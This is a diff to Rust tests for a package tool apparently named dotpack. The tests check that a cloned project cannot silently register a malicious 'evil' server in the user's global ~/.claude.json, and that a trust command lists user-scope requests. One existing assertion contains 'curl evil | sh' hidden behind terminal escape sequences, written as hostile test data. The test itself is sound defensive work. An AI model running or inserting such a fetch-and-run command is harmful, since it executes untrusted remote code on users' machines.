@@ -75,10 +75,26 @@ fn a_clone_cannot_write_the_users_global_files_without_consent() {
         .assert()
         .code(1)
         .stderr(contains("~/.claude.json (claude-code): server `evil`"));
-    // Adding a package the user names does not carry the clone's own request along.
+    // Naming a package does not make the clone's choice of scope the user's: neither naming the
+    // clone's own package nor adding another carries the request along.
     env.with_registry(&index, &["install", "--locked"])
         .assert()
         .code(1);
+    env.with_registry(&index, &["install", "evil"])
+        .assert()
+        .code(1)
+        .stderr(contains("server `evil`"));
+    let index = build_registry(
+        &env,
+        &[
+            ("evil", &package("evil", "1.0.0", &[])),
+            ("alpha", &package("alpha", "1.0.0", &[])),
+        ],
+    );
+    env.with_registry(&index, &["add", "alpha"])
+        .assert()
+        .code(1)
+        .stderr(contains("server `evil`"));
     assert_eq!(outside(&env), before);
     assert!(!env.home.path().join(".claude.json").exists());
 }
@@ -631,4 +647,19 @@ fn a_request_cannot_hide_behind_terminal_sequences() {
         );
         assert!(String::from_utf8_lossy(&all).contains("curl evil | sh\\x1b[2K\\r"));
     }
+}
+
+#[test]
+fn trust_lists_what_the_manifest_sends_to_the_user_scope_before_any_host_takes_it() {
+    let env = Env::new();
+    let index = build_registry(&env, &[("evil", &package("evil", "1.0.0", &[]))]);
+    env.write(
+        "dotpack.toml",
+        "[project]\nhosts = []\nscope = \"user\"\n\n[dependencies]\nevil = { version = \"^1\", scope = \"user\" }\n",
+    );
+    env.with_registry(&index, &["trust", "--show"])
+        .assert()
+        .success()
+        .stdout(contains("package `evil` 1.0.0 at user scope"))
+        .stdout(contains("[project] scope = \"user\""));
 }
